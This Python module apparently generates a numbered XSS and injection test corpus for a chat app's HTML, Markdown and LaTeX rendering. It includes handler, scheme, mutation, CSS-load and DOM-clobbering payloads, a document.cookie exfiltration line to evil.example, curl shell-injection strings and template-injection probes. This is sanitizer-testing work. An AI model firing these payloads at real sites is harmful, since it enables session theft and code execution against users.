"""Texts that would run as script, fetch something from elsewhere, or pose as a part of the page, if a page took them
for anything but text.

Each has a number, and names it in what it would call (`ran(7)`) or fetch (`//evil.example/7`). In the shapes below
`@call` and `@url` stand for these, and `@` alone for the number. A family multiplies its lists; nothing is random.
"""

from __future__ import annotations

import re
from base64 import b64encode
from collections.abc import Iterator
from itertools import product
from typing import NamedTuple

HOST = "evil.example"
_NUMBER = re.compile(r"@(?![a-z\[])")
CALLS = (
    "ran(@)",
    "window.ran(@)",
    "self[/ran/.source](@)",
    "ran`@`",
    "[@].map(ran)",
    "ran.call(0,@)",
    "(0,ran)(@)",
    "setTimeout(ran,0,@)",
    "Reflect.apply(ran,0,[@])",
    "ran(@)/*-->*/",
)


class Payload(NamedTuple):
    number: int
    family: str
    text: str


# What an element needs so that its handler runs by itself, or as soon as anybody comes near it.
HANDLERS = (
    ("img", "onerror", "src=x"),
    ("img", "onload", "src=/chat/static/icon.svg"),
    ("svg", "onload", ""),
    ("body", "onload", ""),
    ("body", "onpageshow", ""),
    ("body", "onfocus", ""),
    ("input", "onfocus", "autofocus"),
    ("select", "onfocus", "autofocus"),
    ("textarea", "onfocus", "autofocus"),
    ("button", "onfocus", "autofocus"),
    ("a", "onfocus", "autofocus href=x"),
    ("p", "onfocus", "autofocus tabindex=0"),
    ("x", "onfocus", "autofocus contenteditable"),
    ("details", "ontoggle", "open"),
    ("div", "onbeforetoggle", "popover"),
    ("video", "onerror", "src=x"),
    ("video", "onloadstart", "src=x"),
    ("audio", "onerror", "src=x"),
    ("source", "onerror", "src=x"),
    ("object", "onerror", "data=x"),
    ("iframe", "onload", ""),
    ("style", "onload", ""),
    ("link", "onload", "rel=stylesheet href=/chat/static/app.css"),
    ("script", "onerror", "src=x"),
    ("marquee", "onstart", ""),
    ("input", "onerror", "type=image src=x"),
    ("div", "onpointerover", "style=position:fixed;inset:0"),
    ("div", "onanimationstart", "style=animation:spin+1s"),
    ("div", "ontransitionrun", "style=transition:all+1s"),
    ("div", "onscroll", "style=overflow:auto"),
    ("div", "onwheel", "tabindex=0"),
    ("form", "onformdata", ""),
    ("dialog", "oncancel", "open"),
    ("animate", "onbegin", "attributeName=x dur=1s"),
    ("set", "onend", "attributeName=x dur=1s"),
)
SPELLINGS = (
    "<{TAG} {more} {ON}={call}>",
    "<{tag}/{more}/{on}='{call}'>",
    "<{tag} {more} {on}={entities}>",
    "<{tag} {more} {on}={call}//",
    "<{tag} {more} x='>' {on}={call} {on}=x>",
)
WAYS_OUT = (
    '">',
    "'>",
    '" x=\'">',
    "</p></li></ul></main>",
    "</textarea>",
    "</title>",
    "</style>",
    "</script>",
    "</option></select>",
    "</noscript>",
    "</template>",
    "</svg>",
    "</math>",
    "</xmp></plaintext></noembed></noframes>",
    "--><!---->",
    "--!>",
    "]]>",
    "<!--><",
    "<!doctype html>",
    "\n\n",
)
INNER = (
    "<img src=x onerror=@call>",
    "<svg onload=@call>",
    "<script>@call</script>",
    "<img src=@url>",
)

SCHEMES = (
    "javascript:@call",
    "JaVaScRiPt:@call",
    " javascript:@call",
    "java\tscript:@call",
    "java&Tab;script:@call",
    "\x01javascript:@call",
    "javascript&colon;@call",
    "javascript&#x3A;@call",
    "&#106;avascript:@call",
    "&#0000106avascript:@call",
    "%6aavascript:@call",
    "javascript://%0a@call",
    "javas\u200bcript:@call",
    "\u00a0javascript:@call",
    "view-source:javascript:@call",
    "vbscript:@call",
    "data:text/html;base64,@base64",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='@call'/>",
    "@url",
    "https:@url",
    "\\\\evil.example\\@",
)
LINKS = (
    "<a href='@'>x</a>",
    "<iframe src='@'></iframe>",
    "<button form=x formaction='@'>x</button>",
    "<object data='@'></object>",
    "<svg><a xlink:href='@'><text y=20>x</text></a></svg>",
    "<svg><animate attributeName=href values='@'/></svg>",
    "<meta http-equiv=refresh content='0;url=@'>",
    "<base href='@'>",
)
MARKDOWN_LINKS = (
    "[x](@)",
    "[x](@ 'a title')",
    "![x](@)",
    "<@>",
    "[x]: @\n\n[x]",
    "$\\href{@}{x}$",
    "\\(\\includegraphics{@}\\)",
)

# Of which a parser makes something else when it reads what another one wrote.
MUTATIONS = (
    "<math><mtext><table><mglyph><style>@in",
    "<math><mtext><table><mglyph><style><!--</style>@in",
    "<math><mtext><mglyph><svg><mtext><textarea><path id='</textarea>@in'>",
    "<math><annotation-xml encoding=text/html>@in</annotation-xml></math>",
    "<math><annotation-xml encoding='application/xhtml+xml'><style>@in</style>",
    "<math><mi><style><mglyph>@in",
    "<math><ms><xmp>@in",
    "<form><math><mtext></form><form><mglyph><style></math>@in",
    "<svg></p><style><a id='</style>@in'>",
    "<svg><style><a title='</style>@in'></a></style></svg>",
    "<svg><p><style><g title='</style>@in'>",
    "<svg><title><style>@in</style></title></svg>",
    "<svg><desc><noscript>@in</noscript></desc></svg>",
    "<svg><foreignObject>@in</foreignObject></svg>",
    "<svg><foreignobject><math><mi><style>@in",
    "<svg><textarea>@in</textarea></svg>",
    "<svg><xmp>@in</xmp></svg>",
    "<svg><![CDATA[><image xlink:href=']]>@in'>",
    "<svg><font color=red><style>@in</style></font></svg>",
    "<noscript><p title='</noscript>@in'>",
    "<noscript><style><a title='</style></noscript>@in'>",
    "<noembed><p title='</noembed>@in'>",
    "<noframes><p title='</noframes>@in'>",
    "<iframe><p title='</iframe>@in'>",
    "<xmp><p title='</xmp>@in'>",
    "<textarea><p title='</textarea>@in'>",
    "<title><p title='</title>@in'>",
    "<style><p title='</style>@in'>",
    "<plaintext>@in",
    "<template><p title='</template>@in'>",
    "<template><s><template><s>@in</s>@in</template>",
    "<select><template>@in</template></select>",
    "<select><option><style></option></select>@in",
    "<select></select><keygen>@in",
    "<table><caption><svg><title><style><a title='</style>@in'>",
    "<table><td><select><tr>@in",
    "<table><colgroup><template>@in</template>",
    "<table><a href=x>@in<table>",
    "<a><table><a>@in",
    "<p><table><p>@in</table>",
    "<a href=x><form><a>@in",
    "<nobr><b><nobr>@in</b></nobr>",
    "<!--<p title='-->@in'>",
    "<!--><p title='-->@in'>-->",
    "<!-- --!>@in",
    "<![CDATA[><p title=']]>@in'>",
    "<?x ?>@in",
    "<?xml-stylesheet href='javascript:@call'?>@in",
    "<!ENTITY x '@in'>&x;",
    "</ x>@in",
    "</p/@in",
    "<%00/@in",
    "<x:x xmlns:x='http://www.w3.org/1999/xhtml'>@in</x:x>",
    "<d/d/d/d title='@in'>",
    "<p is=x-y id='\"&gt;@in'>",
)

LOADS = (
    "<img src=@url>",
    "<img srcset='@url 1x, x 2x'>",
    "<img src=x lowsrc=@url longdesc=@url>",
    "<picture><source srcset=@url><img></picture>",
    "<input type=image src=@url>",
    "<body background=@url>",
    "<table background=@url><td>",
    "<video src=@url poster=@url autoplay>",
    "<video><source src=@url><track src=@url default kind=captions></video>",
    "<audio src=@url autoplay>",
    "<iframe src=@url>",
    "<iframe srcdoc='<img src=@url>'>",
    "<frameset><frame src=@url></frameset>",
    "<object data=@url>",
    "<embed src=@url>",
    "<applet code=x archive=@url>",
    "<script src=@url></script>",
    "<script type=module src=@url></script>",
    "<script>import('@url')</script>",
    "<script>fetch('@url?'+document.cookie)</script>",
    "<script>new Worker('@url')</script>",
    "<script>navigator.sendBeacon('@url')</script>",
    "<script>location='@url'</script>",
    '<script type=importmap>{"imports":{"x":"@url"}}</script>',
    '<script type=speculationrules>{"prefetch":[{"urls":["@url"]}]}</script>',
    "<link rel=stylesheet href=@url>",
    "<link rel=preload as=script href=@url>",
    "<link rel=modulepreload href=@url>",
    "<link rel=prefetch href=@url>",
    "<link rel=preconnect href=@url>",
    "<link rel=dns-prefetch href=@url>",
    "<link rel=icon href=@url>",
    "<link rel=manifest href=@url>",
    "<link rel=import href=@url>",
    "<meta http-equiv=refresh content='0;url=@url'>",
    "<meta http-equiv=refresh content='0,@url'>",
    "<meta http-equiv=set-cookie content='llamalith_session=@'>",
    "<meta http-equiv=Content-Security-Policy content='default-src *'><img src=@url>",
    "<base href=@url><img src=x>",
    "<base target=ran@><base href='@url/'>",
    "<svg><image href=@url /></svg>",
    "<svg><image xlink:href=@url /></svg>",
    "<svg><use href='@url#x'/></svg>",
    "<svg><feImage href=@url /></svg>",
    "<svg><script href=@url /></svg>",
    "<svg fill='url(@url#x)'><rect/></svg>",
    "<?xml-stylesheet href='@url'?>",
    "<!DOCTYPE x SYSTEM '@url'>",
    "<a href=x ping=@url autofocus>x</a>",
    "<fencedframe config=@url></fencedframe>",
    "<portal src=@url></portal>",
)
STYLES = (
    "background:url(@url)",
    "background-image:\\75rl(@url)",
    "list-style:url('@url')",
    "content:url(@url)",
    "cursor:url(@url),auto",
    "border-image:url(@url) 1",
    "filter:url(@url#x)",
    "mask:url(@url)",
    "background:image-set('@url' 1x)",
    "width:expression(@call)",
    "behavior:url(@url)",
    "-moz-binding:url(@url#x)",
    "position:fixed;inset:0;z-index:9;background:#fff /*@*/",
)
STYLED = (
    '<p style="@">x</p>',
    "<p style='x:\"&quot;;@'>x</p>",
    "<style>*{@}</style>",
    'x" style="@" y="',
)
SHEETS = (
    "<style>@import '@url';</style>",
    "<style>@import url(@url)</style>",
    "<style>@font-face{font-family:x;src:url(@url)}*{font-family:x}</style>",
    "<style>input[value^=a]{background:url(@url)}</style>",
    "<style><!--</style>@in",
    "<style>/*</style>@in*/",
    "</style><style>*{background:url(@url)}",
    "<link rel=stylesheet href='data:text/css,*{background:url(@url)}'>",
)

ATTRIBUTES = (
    '" {on}="{call}" x="',
    "' {on}='{call}' x='",
    " {on}={call} ",
    "` {on}=`{call}`",
    '"\n{on}="{call}',
    '"/{on}="{call}"/',
    "&quot; {on}=&quot;{call}",
    '\\" {on}=\\"{call}',
    '"><p {on}="{call}">',
    '"></a></p></form><script>{call}</script>',
    "\u201d {on}=\u201d{call}",
)
EVENTS = ("onmouseover", "autofocus onfocus", "style=animation:x+1s onanimationstart", "ONCLICK", "on\u0131nput")

SCRIPTS = (
    "<script>@call</script>",
    "<ScRiPt>@call</sCrIpT>",
    "<script >@call</script >",
    "<script/x>@call</script/x>",
    "<script\n>@call</script\n>",
    "<script>@call//",
    "<script>@call",
    "<scr<script>ipt>@call</scr</script>ipt>",
    "<<script>@call//<</script>",
    "<script type=module>@call</script>",
    "<script type=text/javascript language=x>@call</script>",
    "<script nonce=''>@call</script>",
    "<script src='data:text/javascript,@call'></script>",
    "<script src='javascript:@call'></script>",
    "<svg><script>@call</script></svg>",
    "<svg><script>&#114;an(@)</script></svg>",
    "<svg><script xlink:href='data:,@call'/></svg>",
    "<math><script>@call</script></math>",
    "<template shadowrootmode=open><script>@call</script></template>",
    "<script>document.write('<img src=@url>')</script>",
    "<noscript><script>@call</script></noscript>",
    "<object data='data:text/html,<script>@call</script>'></object>",
    "<iframe srcdoc='&lt;script&gt;parent.ran(@)&lt;/script&gt;'></iframe>",
    "<iframe srcdoc=\"<img src=x onerror='parent.ran(@)'>\"></iframe>",
)
IN_STRINGS = (
    "';@call;//",
    '";@call;//',
    "\\';@call;//",
    '\\";@call;//',
    "'-@call-'",
    '"-@call-"',
    "`-@call-`",
    "${@call}",
    "`${@call}`",
    "#{@call}",
    "<%= @call %>",
    "<? @call ?>",
    "*/@call/*",
    "\n@call\n",
    "\u2028@call//",
    "\u2029@call//",
    "</script>';@call;//",
    '</script><script>@call;"',
    '"}</script><script>@call</script>',
    '","x":"</script><img src=x onerror=@call>',
    "\\u003c/script\\u003e<script>@call</script>",
    '"]}]}//<!--<script>@call',
    "<!--<script>';@call",
    "]]>'};@call;//",
    "{{ @call }}",
    "{{ self.__init__.__globals__ }}@",
    "{{ request.app.state }}@",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}@",
    "{{ '<script>@call</script>' | safe }}",
    "{{constructor.constructor('@call')()}}",
    "{# @call #}",
    "%(@call)s {0.__class__} %s %n @",
    "constructor.prototype.ran=@",
    "__proto__[ran]=@",
    "$('@');$$$(id)",
    "'; curl @url; '",
    '"$(curl @url)"',
    "`curl @url`",
    "'\\''; ran @ #",
)
ENCODINGS = (
    "&lt;{}&gt;",
    "&#60;{}&#62;",
    "&#x3c;{}&#x3e;",
    "&amp;lt;{}&amp;gt;",
    "&LT;{}&GT;",
    "&#060{}&#062",
    "\\u003c{}\\u003e",
    "\\x3c{}\\x3e",
    "%3C{}%3E",
    "%253C{}%253E",
    "+ADw-{}+AD4-",
    "\uff1c{}\uff1e",
    "\ufe64{}\ufe65",
    "\u2039{}\u203a",
    "\u00bc{}\u00be",
    "\\<{}\\>",
)
ENCODED = ("script", "img src=x onerror=@call", "svg/onload=@call")
INVISIBLE = (
    *("\u202e", "\u2066", "\u2068", "\u200f", "\u061c", "\u200b", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u115f"),
    *("\u3164", "\U000e0041", "\x7f"),
)
HIDDEN_IN = ("@i<script>@call</script>", "<@iscript>@call</script>", "<img src=x on@ierror=@call>", 'x@i"onfocus=@call')

CLOBBERED = (
    *("main", "turns", "trouble", "announcement", "content", "settings", "board", "csrf_token", "elements", "location"),
    *("cookie", "body", "getElementById", "dataset", "__proto__", "ran"),
)
CLOBBERING = (
    "<a id=@name href=@url>x</a>",
    "<form name=@name><input name=@name value=@></form>",
    "<img name=@name src=@url>",
)

MARKDOWN = (
    '[x](https://a.example/" onmouseover="@call)',
    "[x](https://a.example 'x\" onmouseover=\"@call')",
    '[x](https:@url (title"onfocus="@call))',
    '![x" onerror="@call](https:@url)',
    '![x](https:@url "x\\" onerror=\\"@call")',
    "![x](https:@url onerror=@call)",
    "[![x](https:@url onerror=@call)](javascript:@call)",
    '<https:@url"onclick="@call>',
    'https:@url"onclick="@call',
    "https:@url'><img src=x onerror=@call>",
    'www.evil.example/@"onclick=@call',
    'a@b.example"onclick=@call',
    '<mailto:a@b.example?body="onclick=@call>',
    "| <img src=x onerror=@call> | b |\n|---|---|\n| <script>@call</script> | [x](javascript:@call) |",
    '|a|\n|:-:" onmouseover="@call|\n|x|',
    '|a|\n|:-" style="background:url(@url)|\n|x|',
    "1. <svg onload=@call>\n2. </li></ol><script>@call</script>",
    '3" onmouseover="@call. x',
    "99999999999. <script>@call</script>",
    "- [ ] <input onfocus=@call autofocus>",
    "> <blockquote><script>@call</script>",
    "> [!NOTE]\n> <img src=x onerror=@call>",
    "# </h2><script>@call</script>",
    "<script>@call</script>\n====",
    "*<img src=x onerror=@call>*",
    "**</strong><script>@call</script>**",
    "~~</s><svg onload=@call>~~",
    "\\<script>@call\\</script>",
    "`<img src=x onerror=@call>`",
    "`` </code><script>@call</script> ``",
    "    </code></pre><script>@call</script>",
    "<!-- -->\n<script>@call</script>",
    "<div>\n\n<script>@call</script>\n\n</div>",
    "<details><summary>x</summary>\n\n<img src=x onerror=@call>\n</details>",
    "[^1]: <img src=x onerror=@call>\n\n[^1]",
    '[x](javascript:@call "[y](javascript:@call)")',
    "[x](data:text/html,<script>@call</script>)",
    "[<img src=x onerror=@call>](https:@url)",
    "[x]()<script>@call</script>",
    "Term\n: <script>@call</script>",
    ":smile: <i class=x onclick=@call>",
    '@[youtube]("><script>@call</script>)',
    "<!--[if IE]><script>@call</script><![endif]-->",
    "---\ntitle: <script>@call</script>\n---",
)
FENCES = ("```", "~~~", "````")
LANGUAGES = (
    '"onmouseover="@call',
    "html <script>@call</script>",
    "<img src=x onerror=@call>",
    "js' onfocus='@call' autofocus x='",
    "</code></pre><script>@call</script>",
    'python" class="x" style="background:url(@url)',
    "html",
    "svg",
    "javascript",
    "diff",
    "&quot;onclick=&quot;@call",
    "../../@",
    "__proto__ @",
    "math",
    "mermaid",
)
COMMANDS = (
    "\\href{javascript:@call}{x}",
    "\\href{https:@url}{x}",
    "\\url{javascript:@call}",
    "\\includegraphics{https:@url}",
    '\\includegraphics[height=1em,alt={"onerror="@call}]{@url}',
    "\\htmlClass{said you n@}{y}",
    "\\htmlId{main}{n@}",
    "\\htmlData{turn=@, live=@url}{y}",
    '\\htmlData{x=" onmouseover="@call}{y}',
    "\\htmlStyle{background:url(@url)}{y}",
    "<img src=x onerror=@call>",
    "\\text{<img src=x onerror=@call>}",
    "\\text{</annotation></semantics></math><script>@call</script>}",
    "\\mathrm{\\text{<script>@call</script>}}",
    "\\color{red;background:url(@url)}{x}",
    '\\textcolor{"onclick="@call}{x}',
    "\\colorbox{expression(@call)}{x}",
    '\\fcolorbox{red}{" onmouseover="@call}{x}',
    "\\def\\a{\\a\\a}\\a n@",
    "\\def\\href#1#2{#1}\\href{<svg onload=@call>}{x}",
    "\\gdef\\text#1{\\href{javascript:@call}{#1}}\\text{x}",
    "\\newcommand\\a[1]{#1#1}\\a{\\a{\\a{\\a{\\a{\\a{n@}}}}}}",
    "\\rule{99999em}{99999em} n@",
    "\\kern{-99999em}\\raisebox{99999em}{n@}",
    "\\unknown{<img src=x onerror=@call>} \\frac{1",
    '\\char"3C script\\char"3E @call',
    "\\operatorname{<svg onload=@call>}",
    "\\tag{<script>@call</script>} \\label{x} \\ref{x}",
    "\\verb|<script>@call</script>|",
    "\\begin{html}<script>@call</script>\\end{html}",
    "\\unicode{x3C}script\\unicode{x3E} @call",
    "\\style{background:url(@url)}{x} \\class{x}{y} \\cssId{main}{n@}",
    "\\require{html}\\href{javascript:@call}{x}",
)
DELIMITERS = ("$ $", "\\[ \\]")


def _shapes() -> Iterator[tuple[str, str]]:
    """(family, shape)."""
    for (tag, on, more), spelling in product(HANDLERS, SPELLINGS):
        parts = {"tag": tag, "TAG": tag.title(), "on": on, "ON": on.upper(), "more": more.replace("+", " ")}
        yield "handlers", spelling.format(call="@call", entities="@entities", **parts)
    for way, inner in product(WAYS_OUT, INNER):
        yield "ways out", way + inner
    for link, scheme in product(LINKS, SCHEMES):
        yield "links", link.replace("@", scheme)
    for link, scheme in product(MARKDOWN_LINKS, SCHEMES):
        yield "formulas" if "\\" in link else "Markdown links", link.replace("@", scheme)
    yield from (("mutations", shape.replace("@in", INNER[number % 3])) for number, shape in enumerate(MUTATIONS))
    yield from (("loads", shape) for shape in LOADS)
    for styled, style in product(STYLED, STYLES):
        yield "styles", styled.replace("@", style)
    yield from (("styles", shape.replace("@in", INNER[0])) for shape in SHEETS)
    for shape, on in product(ATTRIBUTES, EVENTS):
        yield "attributes", shape.format(on=on, call="@call")
    yield from (("scripts", shape) for shape in SCRIPTS)
    yield from (("strings", shape) for shape in IN_STRINGS)
    for form, text in product(ENCODINGS, ENCODED):
        yield "encodings", form.format(text) + "@call"
    for shape, char in product(HIDDEN_IN, INVISIBLE):
        yield "invisible characters", shape.replace("@i", char)
    for shape, name in product(CLOBBERING, CLOBBERED):
        yield "names", shape.replace("@name", name)
    yield from (("Markdown", shape) for shape in MARKDOWN)
    for fence, language in product(FENCES, LANGUAGES):
        yield "code", f"{fence}{language}\n</code></pre><script>@call</script>\n{fence}"
    for delimiters, command in product(DELIMITERS, COMMANDS):
        yield "formulas", delimiters.replace(" ", command)


def _payload(number: int, family: str, shape: str) -> Payload:
    call = CALLS[number % len(CALLS)].replace("@", str(number))
    text = (
        shape.replace("@call", call)
        .replace("@url", f"//{HOST}/{number}")
        .replace("@base64", b64encode(f"<script>parent.ran({number})</script>".encode()).decode())
        .replace("@entities", "".join(f"&#{ord(char)};" for char in call))
    )
    return Payload(number, family, _NUMBER.sub(str(number), text))


SHAPES = {shape: family for family, shape in _shapes()}
PAYLOADS = [_payload(number, family, shape) for number, (shape, family) in enumerate(SHAPES.items(), 1)]
TEXTS = [payload.text for payload in PAYLOADS]
SAMPLES = list({payload.family: payload for payload in PAYLOADS}.values())
"""One of each family, the last."""
